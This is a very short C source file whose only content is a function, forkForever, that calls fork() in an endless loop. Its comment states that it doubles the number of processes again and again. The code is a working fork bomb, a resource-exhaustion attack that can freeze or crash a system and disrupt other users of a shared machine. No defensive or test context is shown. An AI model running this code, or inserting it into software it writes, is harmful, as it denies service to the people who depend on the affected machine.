#define _GNU_SOURCE
#include <unistd.h>

/// Doubles the number of processes again and again.
int forkForever(void) {
  for (;;)
    fork();
}
